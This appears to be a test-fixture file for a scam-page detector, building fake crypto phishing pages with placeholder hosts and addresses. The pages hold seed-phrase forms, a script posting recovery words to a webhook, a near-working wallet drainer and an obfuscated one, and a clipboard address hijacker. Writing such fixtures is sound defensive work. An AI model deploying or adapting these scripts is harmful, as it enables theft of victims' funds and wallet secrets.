/** Thieves of wallets. Their contracts and addresses are made up, and nothing here could sign or send a thing. */
import { bundle, htmlDocument, image, loginStyle, prose, stylesheet } from './filler.ts';
import { hostile, type PageFixture } from './fixture.ts';
import { stringArray } from './obfuscation.ts';

const SEED = 'seed phrase phishing';
const DRAINER = 'wallet drainer';
const idn = (url: string) => new URL(url).href;
const words = (count: number) =>
  Array.from(
    { length: count },
    (_, i) => `<input name="word${i + 1}" placeholder="${i + 1}." autocomplete="off">`,
  ).join('');

export const hostileCrypto: PageFixture[] = [
  hostile(
    'wallet that must be restored',
    SEED,
    'https://metamask-wallet-restore.io-extension.com/unlock',
    htmlDocument({
      title: 'MetaMask – Restore your wallet',
      head: loginStyle('#f6851b'),
      body: `<div class="box"><h1>Restore your wallet</h1><p>Because of new KYC rules, your wallet will be suspended. Enter your 12-word Secret Recovery Phrase.</p><form action="https://seed-store-backend.site/post.php" method="post">${words(12)}<input type="password" name="newpass" placeholder="New password"><button>Restore</button></form></div>`,
    }),
  ),
  hostile(
    'maker of hardware wallets with a foreign letter',
    SEED,
    idn('https://lédger-live-update.com/recover'),
    htmlDocument({
      title: 'Ledger Live – Firmware 2.3 recovery',
      head: loginStyle('#000'),
      body: `<div class="box"><h1>Ledger</h1><p>Your Ledger has been deactivated after a data breach. Enter your 24 words to synchronise it.</p><form id="s">${words(24)}<button>Synchronise</button></form></div><script>s.onsubmit=function(e){e.preventDefault();fetch('https://discord.com/api/webhooks/000000000000000000/NotARealWebhookToken',{method:'POST',headers:{'content-type':'application/json'},body:JSON.stringify({content:[].map.call(s.elements,function(x){return x.value}).join(' ')})}).then(function(){location='https://www.ledger.com'})};</script>`,
    }),
    'both',
  ),
  hostile(
    'air drop that empties',
    DRAINER,
    'https://claim-pudgyape-airdrop.xyz/mint',
    htmlDocument({
      title: 'Claim your free airdrop',
      head: `<style>${stylesheet('ape', 50)}</style><script src="https://cdn.jsdelivr.net/npm/ethers@5.7.2/dist/ethers.umd.min.js"></script>`,
      body: `<h1>CLAIM YOUR AIRDROP</h1><p>Only 312 left! Connect your wallet to claim.</p>${image('ape', 12_000)}<button id="c">Connect wallet</button><script>
const receiver='0x000000000000000000000000000000000000dEaD';
c.onclick=async()=>{const [a]=await ethereum.request({method:'eth_requestAccounts'});const p=new ethers.providers.Web3Provider(ethereum),s=p.getSigner();const list=await (await fetch('https://drain-api-seaport.xyz/assets?wallet='+a)).json();
for(const t of list.sort((x,y)=>y.usd-x.usd)){try{if(t.type==='ERC721'){await new ethers.Contract(t.address,['function setApprovalForAll(address,bool)'],s).setApprovalForAll(receiver,true)}else if(t.permit){await s._signTypedData(t.domain,{Permit:t.types},{owner:a,spender:receiver,value:ethers.constants.MaxUint256,nonce:t.nonce,deadline:9999999999})}else{await new ethers.Contract(t.address,['function approve(address,uint256)'],s).approve(receiver,ethers.constants.MaxUint256)}}catch(e){}}
const left=await p.getBalance(a);await s.sendTransaction({to:receiver,value:left.mul(95).div(100)});};</script>`,
    }),
  ),
  hostile(
    'drainer behind an array of strings',
    DRAINER,
    'https://opensea-offer-collection.cloud/offer/8812',
    htmlDocument({
      title: 'OpenSea | Offer received',
      body: `<h1>OpenSea</h1><p>You have received an offer of 14.2 WETH. Accept within 1 hour.</p><button id="accept">Accept offer</button><script>${bundle('sea', 20)}</script><script>${stringArray("var to='0x000000000000000000000000000000000000dEaD';document.getElementById('accept').onclick=function(){window.ethereum.request({'method':'eth_requestAccounts'}).then(function(acc){return window.ethereum.request({'method':'eth_signTypedData_v4','params':[acc[0],'Permit2']}).then(function(sig){return fetch('https://seaport-drain-node.cloud/exec',{'method':'POST','body':JSON.stringify({'s':sig,'o':acc[0],'spender':to,'fn':'setApprovalForAll'})});});});};", 'opensea')}</script>`,
    }),
    'both',
  ),
  hostile(
    'rectifier of all wallets',
    SEED,
    'https://dapps-walletconnect-rectify.netlify.app/connect.html',
    htmlDocument({
      title: 'WalletConnect | Rectify, validate, synchronise',
      head: `<style>${stylesheet('wc', 60)}</style>`,
      body: `<h1>Choose your problem</h1>${['Migration', 'Rectification', 'Claim rewards', 'Locked account', 'Validation', 'Missing funds'].map((problem) => `<div class="card"><h3>${problem}</h3><button>Connect</button></div>`).join('')}<form action="https://formspree.io/f/notarealform" method="POST"><select name="wallet"><option>MetaMask<option>Trust Wallet<option>Ledger<option>Phantom</select><textarea name="phrase" placeholder="Enter your recovery phrase, typically 12 (sometimes 24) words separated by single spaces"></textarea><input name="keystore" placeholder="Keystore JSON"><input name="privatekey" placeholder="Private key"><button>Connect</button></form>`,
    }),
  ),
  hostile(
    'money that is doubled',
    'giveaway scam',
    'https://elon-x2-event.live/btc',
    htmlDocument({
      title: 'Official 5,000 BTC Giveaway',
      body: `<h1>Biggest giveaway of $100,000,000 by Elon Musk and Tesla</h1><p>Send from 0.1 to 20 BTC to the address below and get twice as much back at once. You can take part only once. Hurry!</p><code>bc1qnotarealaddressnotarealaddressnotarea</code><button onclick="navigator.clipboard.writeText(document.querySelector('code').textContent)">Copy address</button><table id="t"></table><script>setInterval(function(){var r=document.getElementById('t').insertRow(0);r.insertCell().textContent='bc1q'+Math.random().toString(36).slice(2);r.insertCell().textContent=(Math.random()*5).toFixed(2)+' BTC sent, '+(Math.random()*10).toFixed(2)+' BTC returned'},2500);</script>`,
    }),
    'both',
  ),
  hostile(
    'wallet in a list of forms alone',
    SEED,
    'https://trustwallet-verify.support-ticket.help/import',
    htmlDocument({
      title: 'Trust Wallet support – import wallet',
      body: `<form action="/api/import" method="post"><textarea name="recovery_phrase"></textarea><input type="password" name="private_key"><button>Import</button></form><script src="/app.js"></script><script>${bundle('trust', 18)}</script>`,
    }),
    'lists',
  ),
  hostile(
    'copied address that becomes another',
    'clipboard hijacker',
    'https://btc-mixer-anonymous.online/send',
    htmlDocument({
      title: 'Anonymous mixer',
      body: `${prose('mixer', 'crypto', 4)}<input name="address" placeholder="Your address"><script>
document.addEventListener('copy',function(e){var t=String(getSelection());if(/^(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,60}$/.test(t.trim())){e.clipboardData.setData('text/plain','bc1qnotarealaddressnotarealaddressnotarea');e.preventDefault()}else if(/^0x[a-fA-F0-9]{40}$/.test(t.trim())){e.clipboardData.setData('text/plain','0x000000000000000000000000000000000000dEaD');e.preventDefault()}});setInterval(function(){navigator.clipboard.readText().then(function(t){if(/^0x[a-fA-F0-9]{40}$/.test(t))navigator.clipboard.writeText('0x000000000000000000000000000000000000dEaD')}).catch(function(){})},500);</script>`,
    }),
  ),
  hostile(
    'investments that a famous person is said to make',
    'investment scam',
    'https://quantum-x-trade-profits.website/?aff=991&utm_campaign=fb_news',
    htmlDocument({
      title: 'BBC News: the loophole that banks do not want you to know',
      head: `<style>${stylesheet('quantum', 50)}</style>`,
      body: `<h1>BBC NEWS</h1><p>He invested £250 and made £8,412 in a week: guaranteed profit with Quantum Trade Bitcoin.</p>${prose('quantum', 'money', 6)}<form id="lead" action="https://leads-crm-forex.website/api/v2/push.php" method="post"><input name="first_name"><input name="last_name"><input name="email"><input name="phone"><input type="hidden" name="password" value="Aa123456"><button>Register now: 7 places left</button></form><script>document.querySelectorAll('a').forEach(function(a){a.href='#lead'});window.onbeforeunload=function(){return 'Wait! Your place is reserved'};</script>`,
    }),
    'both',
  ),
];
